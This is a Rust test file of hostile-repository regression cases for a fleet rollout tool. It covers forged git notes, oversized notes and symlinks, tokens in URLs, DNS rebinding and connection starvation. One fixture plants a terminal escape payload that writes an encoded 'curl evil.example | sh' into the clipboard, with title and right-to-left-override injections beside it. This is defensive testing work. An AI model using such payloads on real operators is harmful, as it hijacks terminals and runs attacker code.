//! The hostile-repo corpus, views side: what someone with push access to the fleet repo (or a
//! web page an operator visits) can throw at `rota status`, `rota where`, `rota promote`,
//! `rota validate` and `rota ui`, each with real git and the real `rota` binary. Every case
//! here failed before the defence it names (docs/gitops.md, "Threat model"):
//!
//! - notes: a record dated at the end of time (crashed every view), a note under a ref no
//!   cluster owns (made the page show a wave done), a forged note with `--agent-signers`,
//!   a 3 MiB note (read whole), escape sequences in descriptions (reached the terminal);
//! - trees: a symlink whose target "path" is megabytes (read whole before any budget);
//! - URLs: a token as the URL's user name (printed);
//! - the page: a foreign `Host` (DNS rebinding), cross-site requests, one client holding
//!   every connection (`/healthz` included), a flood of notes refs on `rota ui --repo URL`.

use crate::support::canary_fleet;
use crate::support::git::{git, git_stdin, rota};

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// Two waves: canary (canary-1) then main (main-1), one pool `general` each, guard on.
fn two_waves(canary: &str, main: &str) -> String {
    canary_fleet::two_waves_yaml(canary, main, "  promotion: {guard: true}\n")
}

/// A repo where canary pins 2026.11.2 (base) and then main is promoted to it (HEAD):
/// (tmp, repo, base, head).
fn promoted_repo() -> (tempfile::TempDir, PathBuf, String, String) {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path().join("work");
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("fleet.yaml"), two_waves("2026.11.2", "2026.11.1")).unwrap();
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "canary: 2026.11.2"]);
    let base = git(&repo, &["rev-parse", "HEAD"]);
    std::fs::write(repo.join("fleet.yaml"), two_waves("2026.11.2", "2026.11.2")).unwrap();
    git(&repo, &["commit", "-q", "-am", "promote main"]);
    let head = git(&repo, &["rev-parse", "HEAD"]);
    (tmp, repo, base, head)
}

/// Writes `doc` as the note on `commit` under `refs/notes/<notes_ref>` with plain git.
fn put_note(repo: &Path, notes_ref: &str, commit: &str, doc: &str) {
    let path = repo.join(".git").join("forged-note");
    std::fs::write(&path, doc).unwrap();
    git(
        repo,
        &[
            "notes",
            "--ref",
            notes_ref,
            "add",
            "-f",
            "-F",
            path.to_str().unwrap(),
            commit,
        ],
    );
    std::fs::remove_file(path).unwrap();
}

/// A note claiming canary-1 completed 2026.11.2 at `at`, with a status `description`,
/// naming `cluster` as its writer.
fn claim(cluster: &str, at: &str, description: &str) -> String {
    serde_json::json!({
        "cluster": cluster,
        "statuses": [{"context": "rota/canary-1/general", "state": "success",
                      "description": description, "updatedAt": "2026-11-22T03:00:00Z"},
                     {"context": "rota/canary-1", "state": "success",
                      "description": description, "updatedAt": "2026-11-22T03:00:00Z"}],
        "pools": [{"cluster": "canary-1", "pool": "general",
                   "completions": [{"channel": "general", "version": "2026.11.2",
                                    "completedAt": at}],
                   "gateFailures": []}]
    })
    .to_string()
}

/// Runs rota with `args`: (exit code, stdout + stderr). A panic is exit code 101.
fn run(args: &[&str], repo: &Path) -> (i32, String) {
    let out = Command::new(rota())
        .args(args)
        .arg("--repo")
        .arg(repo)
        .env("ROTA_LOG", "warn")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr),
    )
}

fn canary_holds(out: &str) -> bool {
    out.contains("waiting for canary-1/general (wave canary) to complete general@2026.11.2")
        || out.contains("no rota agent has reported from canary-1")
}

/// `rota ui` on a repo or URL, killed when dropped.
struct Ui {
    child: Child,
    addr: String,
}

impl Drop for Ui {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn ui(repo: &str, extra: &[&str]) -> Ui {
    let mut child = Command::new(rota())
        .args(["ui", "--listen", "127.0.0.1:0", "--repo", repo])
        .args(extra)
        .env("ROTA_LOG", "error")
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert!(line.contains("http://"), "rota ui printed {line:?}");
    let addr = line
        .trim()
        .rsplit("http://")
        .next()
        .unwrap()
        .trim_end_matches('/')
        .to_string();
    Ui { child, addr }
}

/// One HTTP/1.1 request with these extra header lines, from `from` (a loopback address);
/// the whole response, or what arrived before `timeout`.
fn request(addr: &str, from: &str, path: &str, headers: &str, timeout: Duration) -> String {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
        let mut s = socket.connect(addr.parse().unwrap()).await.unwrap();
        s.write_all(
            format!("GET {path} HTTP/1.1\r\n{headers}Connection: close\r\n\r\n").as_bytes(),
        )
        .await
        .unwrap();
        let mut out = Vec::new();
        let _ = tokio::time::timeout(timeout, s.read_to_end(&mut out)).await;
        String::from_utf8_lossy(&out).into_owned()
    })
}

fn get(addr: &str, path: &str, host: &str) -> String {
    request(
        addr,
        "127.0.0.1",
        path,
        &format!("Host: {host}\r\n"),
        Duration::from_secs(60),
    )
}

// ---------------------------------------------------------------------------------------
// notes

/// A completion dated at the very end of chrono's range made the views add the wave's soak
/// to it and panic: `rota status --fleet`, `rota where`, `rota promote --check` and every
/// request of `rota ui`. The note reader now refuses dates outside 2000..9999.
#[test]
fn a_record_dated_at_the_end_of_time_crashes_no_view() {
    let (_tmp, repo, base, head) = promoted_repo();
    let end = chrono::DateTime::<chrono::Utc>::MAX_UTC.to_rfc3339();
    for c in [&base, &head] {
        put_note(&repo, "rota/canary-1", c, &claim("canary-1", &end, "done"));
    }
    for args in [
        vec!["status", "--fleet"],
        vec!["where", "general@2026.11.2"],
        vec!["promote", "--check", "--base", &base, "--rev", &head],
        vec!["status"],
    ] {
        let (code, out) = run(&args, &repo);
        assert!(
            code != 101 && !out.contains("panicked"),
            "rota {args:?} crashed: {out}"
        );
    }
    let (_, out) = run(&["status", "--fleet"], &repo);
    assert!(canary_holds(&out), "the record counts for nothing: {out}");
    let page = ui(repo.to_str().unwrap(), &[]);
    for _ in 0..2 {
        let r = get(&page.addr, "/", "localhost");
        assert!(r.starts_with("HTTP/1.1 200"), "{}", &r[..r.len().min(400)]);
    }
}

/// `rota promote --check` judged a pull request by the rules the pull request brought: one
/// that promotes main and, in the same diff, sets the canary's `soak: 0s` (or
/// `promotion.guard: false`, or puts main before the canary) passed at once while the
/// honest promotion waited for the soak. Now the check judges by the base's rules and refuses
/// a diff that both promotes and changes them, naming both.
#[test]
fn a_promotion_that_changes_the_guards_rules_is_refused_naming_both() {
    let (_tmp, repo, base, head) = promoted_repo();
    // canary-1 completed 2026.11.2 a minute ago: main waits for the canary's 30m soak.
    let done = (chrono::Utc::now() - chrono::Duration::minutes(1)).to_rfc3339();
    put_note(
        &repo,
        "rota/canary-1",
        &base,
        &claim("canary-1", &done, "done"),
    );
    let check = |rev: &str| {
        run(
            &["promote", "--check", "--base", &base, "--rev", rev],
            &repo,
        )
    };
    let (code, out) = check(&head);
    assert_eq!(code, 1, "the honest promotion waits for the soak: {out}");
    assert!(out.contains("soak"), "{out}");
    let promoted = two_waves("2026.11.2", "2026.11.2");
    for (rule, fleet, named) in [
        (
            "soak",
            promoted.replace("soak: 30m", "soak: 0s"),
            "wave canary: soak 30m",
        ),
        (
            "guard",
            promoted.replace("promotion: {guard: true}", "promotion: {guard: false}"),
            "promotion.guard: true → false",
        ),
        (
            "order",
            promoted.replace("    - name: canary\n      clusters: [canary-1]\n      images: {general: \"2026.11.2\"}\n      soak: 30m\n    - name: main\n      clusters: [main-1]\n      images: {general: \"2026.11.2\"}\n", "    - name: main\n      clusters: [main-1]\n      images: {general: \"2026.11.2\"}\n    - name: canary\n      clusters: [canary-1]\n      images: {general: \"2026.11.2\"}\n      soak: 30m\n"),
            "the waves' order: canary, main → main, canary",
        ),
    ] {
        assert_ne!(fleet, promoted, "{rule}: the replacement applies");
        git(&repo, &["checkout", "-q", "-B", &format!("pr-{rule}"), &base]);
        std::fs::write(repo.join("fleet.yaml"), &fleet).unwrap();
        git(&repo, &["commit", "-q", "-am", &format!("promote main, and {rule}")]);
        let pr = git(&repo, &["rev-parse", "HEAD"]);
        let (code, out) = check(&pr);
        assert_eq!(code, 2, "{rule}: refused, not allowed: {out}");
        assert!(
            out.contains("wave main: general 2026.11.1 → 2026.11.2")
                && out.contains(named)
                && out.contains("split"),
            "{rule}: names the promotion, the rule change and what to do: {out}"
        );
    }
    git(&repo, &["checkout", "-q", "main"]);
}

/// A note under a ref that no cluster owns, claiming the canary completed, made the page
/// (and `status --fleet`, `where`) show the canary done and main moving; the views read
/// every `refs/notes/rota/*` ref and every record in it. Now they read only the declared
/// clusters' own refs, and only records about the cluster that wrote them.
#[test]
fn a_note_under_a_ref_no_cluster_owns_shows_nothing_done() {
    let (_tmp, repo, base, head) = promoted_repo();
    for c in [&base, &head] {
        put_note(
            &repo,
            "rota/aa-evil",
            c,
            &claim("aa-evil", "2020-01-01T00:00:00Z", "done"),
        );
        // And in main-1's own ref: records about another cluster.
        put_note(
            &repo,
            "rota/main-1",
            c,
            &claim("main-1", "2020-01-01T00:00:00Z", "done"),
        );
    }
    let (_, out) = run(&["status", "--fleet"], &repo);
    assert!(canary_holds(&out), "{out}");
    let (_, out) = run(&["where", "general@2026.11.2"], &repo);
    assert!(out.contains("held before it"), "{out}");
    let page = ui(repo.to_str().unwrap(), &[]);
    let json = get(&page.addr, "/api/fleet", "localhost");
    assert!(
        !json.contains("\"inForce\": \"2026.11.2\""),
        "nothing completed 2026.11.2: {json}"
    );
}

/// `rota status --fleet --version` and `rota where` refuse a version or channel the repo does
/// not declare; so does the page, at its server: `?version=` naming one is a 400 that says
/// what the repo declares, on the page, its fragment and the JSON, never a view of no pools
/// (which reads as "nothing runs it").
#[test]
fn the_page_answers_an_unknown_version_or_channel_with_an_error() {
    let (_tmp, repo, _, _) = promoted_repo();
    let page = ui(repo.to_str().unwrap(), &[]);
    for path in ["/api/fleet", "/fragment", "/"] {
        for (version, says) in [
            ("general%402026.11.9", "has no version"),
            ("gpu%402026.11.1", "no channel"),
            ("2026.11.9", "no channel of the fleet declares version"),
        ] {
            let r = get(
                &page.addr,
                &format!("{path}?version={version}"),
                "localhost",
            );
            let status = r.lines().next().unwrap_or_default();
            assert!(status.contains(" 400 "), "{path}?version={version}: {r}");
            assert!(r.contains(says), "{path}?version={version}: {r}");
        }
        // A version the repo declares is answered.
        let r = get(
            &page.addr,
            &format!("{path}?version=general%402026.11.2"),
            "localhost",
        );
        let status = r.lines().next().unwrap_or_default();
        assert!(status.contains(" 200 "), "{path}: {r}");
    }
}

fn ssh_keygen_new(dir: &Path, name: &str) -> PathBuf {
    let key = dir.join(name);
    let out = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", name, "-f"])
        .arg(&key)
        .output()
        .expect("ssh-keygen is installed (openssh-client)");
    assert!(out.status.success());
    key
}

/// The views had no `--agent-signers`: a forged note under the canary's own ref made the
/// page show the canary done although the agents (and `rota promote`) ignore it. Now every
/// view takes the agents' signers and counts only signed records.
#[test]
fn the_views_honour_agent_signers() {
    let (tmp, repo, base, head) = promoted_repo();
    let key = ssh_keygen_new(tmp.path(), "canary-1");
    let signers = tmp.path().join("agents");
    std::fs::write(
        &signers,
        format!(
            "canary-1 namespaces=\"rota-records\" {}\n",
            std::fs::read_to_string(key.with_extension("pub"))
                .unwrap()
                .trim()
        ),
    )
    .unwrap();
    for c in [&base, &head] {
        put_note(
            &repo,
            "rota/canary-1",
            c,
            &claim("canary-1", "2020-01-01T00:00:00Z", "done"),
        );
    }
    // Without signers the canary's own ref is trusted (push access is all it takes) ...
    let (_, out) = run(&["status", "--fleet"], &repo);
    assert!(!canary_holds(&out), "{out}");
    // ... with them, the forgery holds nothing, in every view.
    let s = signers.to_str().unwrap();
    let (code, out) = run(&["status", "--fleet", "--agent-signers", s], &repo);
    assert!(canary_holds(&out), "{out}");
    assert_eq!(code, 1, "not done: {out}");
    assert!(
        !out.contains("✓ general"),
        "an unsigned status does not make the canary done: {out}"
    );
    let (_, out) = run(&["where", "general@2026.11.2", "--agent-signers", s], &repo);
    assert!(out.contains("held before it"), "{out}");
    let page = ui(repo.to_str().unwrap(), &["--agent-signers", s]);
    let json = get(&page.addr, "/api/fleet", "localhost");
    assert!(canary_holds(&json), "{json}");
}

/// One 3 MiB note (it packs small) was read whole by every reader, on every commit of the
/// page's history. Now a note's size is read from its header and a note over 2 MiB is not
/// read at all: the cluster shows no report.
#[test]
fn a_huge_note_is_not_read() {
    let (_tmp, repo, _base, head) = promoted_repo();
    let huge = "x".repeat(3 * 1024 * 1024);
    put_note(
        &repo,
        "rota/canary-1",
        &head,
        &claim("canary-1", "2026-11-22T02:40:00Z", &huge),
    );
    let (_, out) = run(&["status", "--fleet"], &repo);
    assert!(!out.contains("xxxxxxxx"), "the note was read");
    assert!(canary_holds(&out), "{}", &out[..out.len().min(2000)]);
    // And the person who ran it is told why the canary shows nothing (the one-shot views
    // dropped their warnings before they logged to stderr).
    assert!(
        out.contains("skipping a status note") && out.contains("cluster=canary-1"),
        "{}",
        &out[..out.len().min(2000)]
    );
    let rt = tokio::runtime::Runtime::new().unwrap();
    let store = rota::report::GitNotesStore::new(&repo, None, None);
    store.scope_to(["canary-1".to_string(), "main-1".to_string()]);
    assert!(rt.block_on(store.docs(&head)).unwrap().is_empty());
}

/// Status descriptions (and commit subjects) reached the terminal raw: a pusher's OSC 52
/// wrote the operator's clipboard, CSI 2K erased lines. Now every string from git is made
/// safe by one sanitiser before any view prints it.
#[test]
fn escape_sequences_from_git_never_reach_the_terminal() {
    let (_tmp, repo, _base, head) = promoted_repo();
    let evil = "4/4 nodes\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\x1b]0;pwned\x07";
    put_note(
        &repo,
        "rota/canary-1",
        &head,
        &claim("canary-1", "2026-11-22T02:40:00Z", evil),
    );
    git(
        &repo,
        &[
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "subject \x1b]0;title\x07 \u{202e}txt.exe",
        ],
    );
    for args in [
        vec!["status", "--rev", &head],
        vec!["status", "--fleet", "--rev", &head],
        vec!["where", "general@2026.11.2", "--rev", &head],
    ] {
        let (_, out) = run(&args, &repo);
        assert!(
            !out.contains('\x1b') && !out.contains('\x07'),
            "rota {args:?}: {out:?}"
        );
        if args[0] == "status" {
            assert!(out.contains("\\u{1b}]52;"), "shown, escaped: {out}");
        }
    }
    let page = ui(repo.to_str().unwrap(), &[]);
    let commit = get(&page.addr, &format!("/commit/{head}"), "localhost");
    assert!(!commit.contains('\x1b'), "{commit:?}");
    let home = get(&page.addr, "/", "localhost");
    assert!(
        !home.contains('\x1b') && !home.contains('\u{202e}') && home.contains("\\u{202e}"),
        "{home:?}"
    );
}

// ---------------------------------------------------------------------------------------
// trees and URLs

/// Git stores a symlink's target as a blob and nothing bounded it: a megabytes-long "path"
/// (packed small) was read whole before any budget (a 200 MiB one took `rota validate --rev`
/// near 1 GiB). Now the link's own blob is budgeted from its header, like any file.
#[test]
fn a_symlink_with_a_huge_target_is_refused_unread() {
    let (_tmp, repo, _base, _head) = promoted_repo();
    let target = "a/".repeat(4 * 1024 * 1024);
    let path = repo.join(".git").join("target");
    std::fs::write(&path, &target).unwrap();
    let blob = git(&repo, &["hash-object", "-w", path.to_str().unwrap()]);
    let fleet = git(&repo, &["rev-parse", "HEAD:fleet.yaml"]);
    let tree = {
        let mut child = Command::new("git")
            .arg("mktree")
            .current_dir(&repo)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(
                format!("100644 blob {fleet}\tfleet.yaml\n120000 blob {blob}\tlink.yaml\n")
                    .as_bytes(),
            )
            .unwrap();
        let out = child.wait_with_output().unwrap();
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    let commit = git(&repo, &["commit-tree", &tree, "-m", "link"]);
    let (code, out) = run(&["validate", "--rev", &commit], &repo);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("link.yaml") && out.contains("symbolic link target is 8388608 bytes"),
        "{}",
        &out[..out.len().min(2000)]
    );
}

/// A token given as the URL's user name (`https://TOKEN@host/...`, as GitHub and GitLab
/// accept) was printed as it was. Now every credential form in a URL is redacted.
#[test]
fn a_token_in_the_url_is_never_printed() {
    let tmp = tempfile::tempdir().unwrap();
    for url in [
        "https://ghp_SECRETSECRET1234@127.0.0.1:9/acme/fleet.git",
        "https://user:SECRETSECRET1234@127.0.0.1:9/acme/fleet.git",
        "https://127.0.0.1:9/acme/fleet.git?private_token=SECRETSECRET1234",
    ] {
        let out = Command::new(rota())
            .args([
                "ui",
                "--listen",
                "127.0.0.1:0",
                "--repo",
                url,
                "--state-dir",
            ])
            .arg(tmp.path())
            .output()
            .unwrap();
        let all = String::from_utf8_lossy(&out.stdout).to_string()
            + &String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{all}");
        assert!(!all.contains("SECRETSECRET1234"), "{all}");
        assert!(all.contains("127.0.0.1:9"), "the URL is still named: {all}");
    }
}

// ---------------------------------------------------------------------------------------
// the page

/// `rota ui` answered any `Host`: a page on attacker.example whose name the attacker then
/// rebinds to 127.0.0.1 could read the fleet from a UI on loopback. Now only addresses,
/// `localhost` and `--allow-host` names are answered (`/healthz` always), and cross-site
/// requests are refused.
#[test]
fn the_page_answers_only_its_own_host_names_and_nothing_cross_site() {
    let (_tmp, repo, _base, _head) = promoted_repo();
    // The attack as it is: a page on loopback, a request naming the attacker's host.
    let plain = ui(repo.to_str().unwrap(), &[]);
    let port = plain.addr.rsplit(':').next().unwrap().to_string();
    let rebound = get(
        &plain.addr,
        "/api/fleet",
        &format!("attacker.example:{port}"),
    );
    assert!(rebound.starts_with("HTTP/1.1 421"), "{rebound}");
    assert!(!rebound.contains("canary-1"), "{rebound}");
    drop(plain);
    let page = ui(repo.to_str().unwrap(), &["--allow-host", "fleet.example"]);
    let port = page.addr.rsplit(':').next().unwrap().to_string();
    let still = get(
        &page.addr,
        "/api/fleet",
        &format!("attacker.example:{port}"),
    );
    assert!(still.starts_with("HTTP/1.1 421"), "{still}");
    for host in [
        format!("localhost:{port}"),
        page.addr.clone(),
        format!("fleet.example:{port}"),
    ] {
        let ok = get(&page.addr, "/api/fleet", &host);
        assert!(ok.starts_with("HTTP/1.1 200"), "{host}: {ok}");
        assert!(
            ok.to_ascii_lowercase()
                .contains("cross-origin-resource-policy: same-origin"),
            "{ok}"
        );
        assert!(!ok.to_ascii_lowercase().contains("access-control-allow"));
    }
    let probe = get(&page.addr, "/healthz", "10.0.0.7:8088");
    assert!(probe.starts_with("HTTP/1.1 200"), "{probe}");
    let cross = request(
        &page.addr,
        "127.0.0.1",
        "/api/fleet",
        "Host: localhost\r\nSec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: no-cors\r\n",
        Duration::from_secs(30),
    );
    assert!(cross.starts_with("HTTP/1.1 403"), "{cross}");
    let link = request(
        &page.addr,
        "127.0.0.1",
        "/",
        "Host: localhost\r\nSec-Fetch-Site: cross-site\r\nSec-Fetch-Mode: navigate\r\n",
        Duration::from_secs(30),
    );
    assert!(
        link.starts_with("HTTP/1.1 200"),
        "following a link works: {link}"
    );
}

/// `n` connections from `from` that send nothing (held until the header timeout, 10 s).
fn hold(addr: &str, from: &str, n: usize) -> (tokio::runtime::Runtime, Vec<tokio::net::TcpStream>) {
    let rt = tokio::runtime::Runtime::new().unwrap();
    let conns = rt.block_on(async {
        let mut out = Vec::new();
        for _ in 0..n {
            let socket = tokio::net::TcpSocket::new_v4().unwrap();
            socket.bind(format!("{from}:0").parse().unwrap()).unwrap();
            out.push(socket.connect(addr.parse().unwrap()).await.unwrap());
        }
        out
    });
    (rt, conns)
}

/// One client holding the page's 64 connections (sending nothing) starved everyone,
/// `/healthz` included, until its connections timed out. Now a client gets at most its share
/// (16 by default) and everyone else is served at once; past the global cap a few spare
/// connections still answer `/healthz`.
#[test]
fn one_client_cannot_starve_the_page_or_its_probe() {
    let (_tmp, repo, _base, _head) = promoted_repo();
    let page = ui(repo.to_str().unwrap(), &[]);
    let _held = hold(&page.addr, "127.0.0.1", 64);
    // Well before the held connections' 10 s header timeout frees anything.
    let quick = Duration::from_secs(5);
    for path in ["/healthz", "/"] {
        let r = request(&page.addr, "127.0.0.2", path, "Host: localhost\r\n", quick);
        assert!(
            r.starts_with("HTTP/1.1 200"),
            "{path} from another client: {r:?}"
        );
    }
    drop(_held);

    // Every slot taken by many clients: the probe is still answered, the page says busy.
    let page = ui(
        repo.to_str().unwrap(),
        &[
            "--max-connections",
            "4",
            "--max-connections-per-client",
            "64",
        ],
    );
    let _held = hold(&page.addr, "127.0.0.1", 4);
    std::thread::sleep(Duration::from_millis(300));
    let probe = request(
        &page.addr,
        "127.0.0.2",
        "/healthz",
        "Host: 10.0.0.7\r\n",
        quick,
    );
    assert!(probe.starts_with("HTTP/1.1 200"), "{probe:?}");
    let busy = request(&page.addr, "127.0.0.2", "/", "Host: localhost\r\n", quick);
    assert!(busy.starts_with("HTTP/1.1 503"), "{busy:?}");
}

/// Behind a proxy or an ingress every client and the kubelet's probes share one address:
/// a client holding its share (16) of connections from that address made every further
/// connection from it be closed unread, `/healthz` included, and the pod was restarted. Now
/// a connection over the per-client cap gets a spare slot that answers `/healthz` (and 503,
/// with Retry-After, to anything else).
#[test]
fn a_client_at_its_share_does_not_starve_the_probe_from_its_own_address() {
    let (_tmp, repo, _base, _head) = promoted_repo();
    let page = ui(repo.to_str().unwrap(), &[]);
    let _held = hold(&page.addr, "127.0.0.1", 16);
    std::thread::sleep(Duration::from_millis(300));
    let quick = Duration::from_secs(5);
    let probe = request(
        &page.addr,
        "127.0.0.1",
        "/healthz",
        "Host: 10.0.0.7\r\n",
        quick,
    );
    assert!(probe.starts_with("HTTP/1.1 200"), "{probe:?}");
    let busy = request(&page.addr, "127.0.0.1", "/", "Host: localhost\r\n", quick);
    assert!(busy.starts_with("HTTP/1.1 503"), "{busy:?}");
    assert!(
        busy.to_ascii_lowercase().contains("retry-after: 2"),
        "{busy}"
    );
}

/// `/api/commit/<hex>` and `/commit/<hex>` of a commit the repo does not hold answered
/// `git repository /the/server's/path: revision ...`: the page told any client where the
/// repo lives on the server's disk. Now the error says what is wrong without the path (the
/// log keeps it).
#[test]
fn commit_errors_do_not_name_the_servers_repo_path() {
    let (_tmp, repo, _base, _head) = promoted_repo();
    let page = ui(repo.to_str().unwrap(), &[]);
    let path = repo.display().to_string();
    for url in ["/api/commit/deadbeef", "/commit/deadbeef"] {
        let r = get(&page.addr, url, "localhost");
        assert!(r.starts_with("HTTP/1.1 404"), "{url}: {r}");
        assert!(r.contains("revision"), "{url}: {r}");
        assert!(!r.contains(&path), "{url} names {path}: {r}");
    }
}

/// `rota ui --repo URL` mirrored the first 2048 notes refs by name: a flood of refs sorting
/// before the real clusters hid every one of them. Now the mirror fetches the fleet's
/// clusters' refs first, and the page reads only those.
#[test]
fn a_flood_of_notes_refs_does_not_hide_the_clusters_on_a_mirrored_page() {
    let (tmp, repo, _base, head) = promoted_repo();
    put_note(
        &repo,
        "rota/canary-1",
        &head,
        &claim(
            "canary-1",
            "2026-11-22T02:40:00Z",
            "batch 1/2 · 1/2 nodes on general@2026.11.2",
        ),
    );
    let origin = tmp.path().join("origin.git");
    git(
        tmp.path(),
        &[
            "clone",
            "-q",
            "--bare",
            repo.to_str().unwrap(),
            origin.to_str().unwrap(),
        ],
    );
    git(
        &repo,
        &[
            "push",
            "-q",
            origin.to_str().unwrap(),
            "refs/notes/rota/canary-1",
        ],
    );
    let notes = git(&origin, &["rev-parse", "refs/notes/rota/canary-1"]);
    let flood: String = (0..2100)
        .map(|i| format!("create refs/notes/rota/aa-{i:05} {notes}\n"))
        .collect();
    git_stdin(&origin, &["update-ref", "--stdin"], flood.as_bytes());
    let state = tmp.path().join("state");
    let url = format!("file://{}", origin.display());
    let page = ui(&url, &["--state-dir", state.to_str().unwrap()]);
    let json = get(&page.addr, "/api/fleet", "localhost");
    assert!(
        json.contains("batch 1/2 · 1/2 nodes on general@2026.11.2"),
        "canary-1's status is shown: {json}"
    );
}
